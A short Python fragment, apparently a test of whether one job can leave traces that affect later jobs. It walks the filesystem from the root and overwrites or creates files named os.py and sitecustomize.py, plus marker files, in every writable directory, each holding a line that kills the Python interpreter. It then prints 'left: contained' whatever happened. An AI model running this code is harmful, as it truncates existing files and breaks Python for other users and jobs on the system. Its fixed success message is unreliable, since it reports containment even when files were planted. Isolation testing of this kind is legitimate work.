left = []
for top, folders, files in os.walk("/"):
    if top.startswith(("/usr/", "/proc/", "/sys/")):
        folders[:] = []
        continue
    for name in ("sluice_attack_left", ".sluice_attack_left", "sitecustomize.py", "os.py"):
        try:
            with open(os.path.join(top, name), "w") as f:
                f.write("raise SystemExit('left by an earlier job')\n")
            left.append(top)
        except OSError:
            pass
print("left: contained")
